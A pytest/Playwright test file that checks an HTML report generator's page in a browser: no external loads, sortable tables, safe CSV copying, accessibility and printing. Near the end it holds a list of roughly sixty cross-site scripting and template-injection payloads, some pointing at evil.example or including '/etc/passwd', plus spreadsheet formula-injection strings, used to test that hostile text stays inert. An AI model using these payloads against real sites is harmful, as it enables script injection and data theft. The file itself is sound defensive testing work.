"""The page in a browser, opened from a file: it loads nothing, tables sort and copy, hostile texts stay texts."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest
from made_contents import NOT_SHOWN, contents, picture

from embedcache.report.page import write_page
from embedcache.report.run_page import run_page

CHROMIUM = Path("/usr/bin/chromium")
playwright_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no browser at {CHROMIUM}")

WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => window.refused.push(event.violatedDirective));
"""
NO_CLIPBOARD = "Object.defineProperty(navigator, 'clipboard', {value: undefined});"
CLIPBOARD = """
Object.defineProperty(navigator, "clipboard", {value: {writeText: async (text) => { window.copied = text; }}});
"""
BY_HAND = "document.addEventListener('copy', () => { window.copied = document.activeElement.value; });"
SORTED = [
    ("AUROC of ward: opacity by setting, head and labels (test 40, 9 positive)", 3),
    ("every metric of ward: opacity (a head head, 100% of the labels)", 1),
    ("losses by epoch", 1),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    with playwright_api.sync_playwright() as api:
        browser = api.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("page") / "report.html"
    write_page(path, run_page(with_pictures()))
    return path


def with_pictures():
    some = contents()
    return replace(
        some,
        retrieval=[replace(example, picture=picture()) for example in some.retrieval],
        masks=[replace(example, picture=picture()) for example in some.masks],
    )


@contextmanager
def opened(browser, path: Path, *, width: int = 1280, scheme: str = "light", scripts: str = "", watched: bool = True):
    """The page; at the end nothing may have been said, asked for or refused."""
    view = browser.new_page(viewport={"width": width, "height": 800}, color_scheme=scheme)
    said: list[str] = []
    asked: list[str] = []
    view.on("console", lambda message: said.append(f"{message.type}: {message.text}"))
    view.on("pageerror", lambda error: said.append(str(error)))
    view.on("dialog", lambda dialog: (said.append("a dialog"), dialog.dismiss()))
    view.on("request", lambda request: asked.append(request.url))
    view.add_init_script(WATCH + scripts)
    view.set_default_timeout(8000)
    view.goto(path.as_uri())
    yield view
    if watched:
        assert said == []
        assert [url for url in asked if not url.startswith("data:image/")] == [path.as_uri()]
        assert view.evaluate("window.refused") == []
    view.close()


def until(view, condition: str) -> None:
    """Playwright's own wait would need a policy that lets strings be run."""
    for _ in range(50):
        if view.evaluate(condition):
            return
        view.wait_for_timeout(20)
    pytest.fail(f"never true: {condition}")


def table_of(view, caption: str):
    return view.locator(
        "table", has=view.locator("caption .words", has_text=re.compile(re.escape(caption) + "$"))
    ).first


def column(table, k: int) -> list[str]:
    return table.locator("tbody tr").evaluate_all("(rows, k) => rows.map((row) => row.cells[k].textContent)", k)


def test_nothing_is_loaded_said_or_refused(browser, path: Path) -> None:
    with opened(browser, path) as view:
        view.wait_for_timeout(200)
        assert view.title() == "a run: report"
        assert view.locator("img").count() == 3
        assert view.locator("img").evaluate_all("all => all.every((one) => one.complete && one.naturalWidth > 0)")
        back = "document.body, null"
        assert (
            view.evaluate(f"getComputedStyle({back}).backgroundColor") == "rgb(246, 247, 249)"
        )  # its sheet is in force


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_plots_follow_light_and_dark(browser, path: Path, scheme: str) -> None:
    with opened(browser, path, scheme=scheme) as view:
        colours = view.evaluate(
            "['.f-ink', '.s-c0', '.f-card'].map((name) => getComputedStyle(document.querySelector('svg ' + name)))"
            ".map((style, k) => k === 1 ? style.stroke : style.fill)"
        )
        light = ["rgb(28, 33, 38)", "rgb(11, 111, 176)", "rgb(255, 255, 255)"]
        assert all((found == expected) == (scheme == "light") for found, expected in zip(colours, light, strict=True))


def test_a_phone_never_scrolls_sideways(browser, path: Path) -> None:
    with opened(browser, path, width=360) as view:
        view.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        assert view.evaluate("document.documentElement.scrollWidth") <= 360
        assert view.evaluate("document.scrollingElement.scrollWidth") <= 360
        wide = view.locator(".wide")
        scrolls = wide.evaluate_all("all => all.filter((one) => one.scrollWidth > one.clientWidth).length")
        assert scrolls > 5
        wide.nth(1).focus()
        assert view.evaluate("document.activeElement.getAttribute('role')") == "region"


@pytest.mark.parametrize("by", ["mouse", "keyboard"])
def test_tables_sort_up_and_down(browser, path: Path, by: str) -> None:
    with opened(browser, path) as view:
        view.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        for caption, k in SORTED:
            table = table_of(view, caption)
            button = table.locator("thead button").nth(k)
            before = column(table, k)
            number = table.locator("thead th").nth(k).evaluate("head => head.classList.contains('number')")

            def key(text: str, number: bool = number) -> float | str:
                return float(text.split()[0]) if number else text

            expected = sorted(before, key=key)
            assert expected not in (before, before[::-1]) or number  # else nothing would have to move
            for way in ("ascending", "descending", "ascending"):
                if by == "mouse":
                    button.click()
                else:
                    button.focus()
                    view.keyboard.press("Enter" if way == "ascending" else "Space")
                assert [key(text) for text in column(table, k)] == sorted(map(key, before), reverse=way == "descending")
                states = table.locator("thead th").evaluate_all("all => all.map((one) => one.ariaSort)")
                assert states == ["none"] * k + [way] + ["none"] * (len(states) - k - 1)
                assert view.locator("#status").text_content().endswith(way)
            assert len({tuple(column(table, other)) for other in range(3)}) > 1


def test_undefined_numbers_stay_last(browser, tmp_path: Path) -> None:
    curves = contents().curves
    curves.loc[[1, 5], "valid_loss"] = float("nan")
    write_page(tmp_path / "r.html", run_page(contents(maps=(), retrieval=(), masks=(), tables={}, curves=curves)))
    with opened(browser, tmp_path / "r.html") as view:
        view.locator("#training summary").click()
        table = table_of(view, "losses by epoch")
        for _ in range(2):
            table.locator("thead button").nth(3).click()
            assert column(table, 3)[-2:] == ["", ""]
            assert "" not in column(table, 3)[:-2]


@pytest.mark.parametrize("scripts", [CLIPBOARD, NO_CLIPBOARD + BY_HAND], ids=["clipboard", "by hand"])
def test_a_table_is_copied_as_csv(browser, tmp_path: Path, scripts: str) -> None:
    odd = ["=1+1", "+cmd", "-2", "+0.5", "@x", "-x", "＝1", "50%", 'a "quoted", one', "two\nlines", "\t=1"]
    safe = [
        "'=1+1",
        "'+cmd",
        "-2",
        "+0.5",
        "'@x",
        "'-x",
        "'＝1",
        "50%",
        'a "quoted", one',
        "two\nlines",
        "'\t=1",
    ]
    some = contents(
        maps=(), retrieval=(), masks=(), tables={}, audit=[(f"fact {k}", text) for k, text in enumerate(odd)]
    )
    write_page(tmp_path / "r.html", run_page(some))
    with opened(browser, tmp_path / "r.html", scripts=scripts) as view:
        button = view.locator("#audit .copy")
        name = button.text_content()
        button.focus()
        view.keyboard.press("Enter")
        until(view, "window.copied !== undefined")
        rows = list(csv.reader(io.StringIO(view.evaluate("window.copied"), newline="")))
        assert rows == [["fact", "found"], *([f"fact {k}", text] for k, text in enumerate(safe))]
        assert view.locator("#status").text_content() == "Copied"
        assert button.evaluate("one => one === document.activeElement")
        assert view.locator("textarea").count() == 0
        assert name.startswith("Copy table")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
def test_axe_finds_nothing(browser, path: Path, scheme: str, width: int) -> None:
    from axe_playwright_python.sync_playwright import Axe

    with opened(browser, path, scheme=scheme, width=width) as view:
        view.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
        found = Axe().run(view)
        assert found.violations_count == 0, found.generate_report()
        passed = {rule["id"] for rule in found.response["passes"]}
        assert {"color-contrast", "region", "landmark-one-main", "scrollable-region-focusable", "bypass"} <= passed
        assert {"heading-order", "image-alt", "svg-img-alt", "button-name"} <= passed


def test_paper_shows_everything_but_what_is_pressed(browser, path: Path) -> None:
    with opened(browser, path, scheme="dark") as view:
        closed = "document.querySelectorAll('details:not([open])').length"
        assert view.evaluate(closed) > 5
        view.emulate_media(media="print")
        assert view.locator("nav").is_hidden()
        assert view.locator(".copy").first.is_hidden()
        until(view, closed + " === 0")
        hidden = "all => all.filter((one) => !one.checkVisibility({contentVisibilityAuto: true})).length"
        assert (
            view.locator("main :is(h2, h3, p:not(.tools), table, td, th, svg, img, figcaption, li)").evaluate_all(
                hidden
            )
            == 0
        )
        cut = "all => all.filter((one) => getComputedStyle(one).overflowY !== 'visible').length"
        assert view.locator(".wide").evaluate_all(cut) == 0
        assert view.evaluate("getComputedStyle(document.querySelector('.f-ink')).fill") == "rgb(28, 33, 38)"
        view.emulate_media(media="screen")
        until(view, closed + " > 5")


def test_the_first_key_skips_to_the_results(browser, path: Path) -> None:
    with opened(browser, path) as view:
        view.keyboard.press("Tab")
        assert view.evaluate("document.activeElement.className") == "skip"
        view.keyboard.press("Enter")
        assert view.evaluate("document.activeElement.id") == "main"
        targets = view.locator("nav a").evaluate_all(
            "all => all.map((one) => document.querySelector(one.hash) !== null)"
        )
        assert all(targets)


FIRE = "window.fired=1"
PAYLOADS = [
    f"<script>{FIRE}</script>", f"</script><script>{FIRE}</script>", f"<ScRiPt>{FIRE}</sCrIpT>",
    "<script src=//evil.example/x.js></script>", f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"<img src=x onerror={FIRE}>", f'"><img src=x onerror={FIRE}>', f"'><img src=x onerror={FIRE}>",
    f"<img/src='x'/onerror={FIRE}>", f"<IMG SRC=JaVaScRiPt:{FIRE}>",
    f"<svg onload={FIRE}>", f"<svg/onload={FIRE}//", f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>", "<math><mtext></mtext><mglyph><style><img src=x>",
    f"<iframe src=javascript:{FIRE}></iframe>", f"<iframe srcdoc='<script>parent.{FIRE}</script>'>",
    f"<object data=javascript:{FIRE}>", f"<embed src=javascript:{FIRE}>", f"<body onload={FIRE}>",
    f"</body></html><body onload={FIRE}>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>", f"</style><script>{FIRE}</script>",
    f"</title><script>{FIRE}</script>", f"</textarea><script>{FIRE}</script>",
    "</caption></table><form action=//evil.example><input name=q>", f"<details open ontoggle={FIRE}>",
    f"<a href=javascript:{FIRE}>x</a>", f"<a href='data:text/html,<script>{FIRE}</script>'>x</a>",
    f"<input autofocus onfocus={FIRE}>", f"<marquee onstart={FIRE}>", f"<video><source onerror={FIRE}></video>",
    f'" onmouseover="{FIRE}', f"' onfocus='{FIRE}' autofocus tabindex=1 x='", f"` onmouseover={FIRE} `",
    f"<!--<img src=x onerror={FIRE}>-->", f"--><script>{FIRE}</script><!--", f"<![CDATA[<script>{FIRE}</script>]]>",
    f"</text></svg><script>{FIRE}</script>", f"<foreignObject><img src=x onerror={FIRE}></foreignObject>",
    f"&lt;script&gt;{FIRE}&lt;/script&gt;", f"&#60;script&#62;{FIRE}&#60;/script&#62;",
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "${7*7} #{7*7} <%= 7*7 %>", f"\\u003cscript\\u003e{FIRE}",
    f"\u2028<script>{FIRE}</script>\u2029", f"＜script＞{FIRE}＜/script＞", f"<\x0bimg src=x onerror={FIRE}>",
    f"<img\x0csrc=x\x0conerror={FIRE}>", f"javascript:{FIRE}", f"data:text/html,<script>{FIRE}</script>",
    f"x:expression({FIRE})", f"\u202e<script>{FIRE}</script>", "$\\frac{1}$ a_$",
]  # fmt: skip
A_PAGE = 15
TAGS = """() => Array.from(document.querySelectorAll("*")).filter((one) => !one.closest("svg") || one.tagName === "svg")
  .map((one) => one.tagName + " " + one.getAttributeNames().sort().join(" "))"""
DRAWN = """() => Array.from(document.querySelectorAll("svg *"))
  .flatMap((one) => [one.tagName, ...one.getAttributeNames()])"""
MAY_BE_DRAWN = {"g", "path", "use", "defs", "text", "clipPath", "rect"}


@pytest.fixture(scope="module")
def plain_tags(browser, tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    """The elements of a page whose texts are harmless."""
    path = tmp_path_factory.mktemp("plain") / "report.html"
    write_page(path, run_page(contents(lambda word: f"plain {word}")))
    with opened(browser, path) as view:
        return Counter(view.evaluate(TAGS))


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), A_PAGE))
def test_hostile_texts_stay_texts(browser, plain_tags: Counter[str], tmp_path: Path, first: int) -> None:
    assert len(set(PAYLOADS)) >= 50
    hostile = " ".join(PAYLOADS[first : first + A_PAGE])
    fields: dict[str, str] = {}

    def word(plain: str) -> str:
        return fields.setdefault(plain, f"{hostile} [{len(fields)}]")

    write_page(tmp_path / "r.html", run_page(contents(word)))
    with opened(browser, tmp_path / "r.html") as view:
        text = view.evaluate("document.body.textContent")
        missing = [plain for plain, field in fields.items() if field not in text]
        assert set(missing) <= NOT_SHOWN
        assert len(fields) > 50
        assert Counter(view.evaluate(TAGS)) == plain_tags
        assert view.evaluate("document.title") == " ".join(re.split(r"[ \t\n\f\r]+", f"{fields['a run']}: report"))
        drawn = set(view.evaluate(DRAWN))
        assert {name for name in drawn if name[0] == "o" and name.startswith("on")} == set()
        assert drawn & {"script", "image", "foreignObject", "a", "animate", "style", "set"} == set()
        view.locator("#scores thead button").first.click()
        view.locator("#scores .copy").first.hover()
        view.wait_for_timeout(50)
        assert view.evaluate("window.fired") is None
